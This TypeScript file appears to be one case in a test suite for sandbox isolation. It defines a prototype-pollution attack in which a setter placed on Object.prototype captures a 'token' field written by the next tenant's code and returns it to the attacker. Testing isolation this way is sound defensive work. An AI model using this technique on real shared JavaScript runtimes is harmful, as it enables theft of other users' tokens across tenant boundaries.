import { attack } from '../attack.ts';

/** A setter on Object.prototype waits for a field of the next tenant's. */
export const escape = attack({
	grants: [],
	source: `
		Object.defineProperty(Object.prototype, 'token', { set(value) { globalThis.stolen = value; }, configurable: true });
		return 1;
	`,
	victim: `
		const session = {};
		session.token = input;
		return 1;
	`,
	collect: `return globalThis.stolen;`,
});
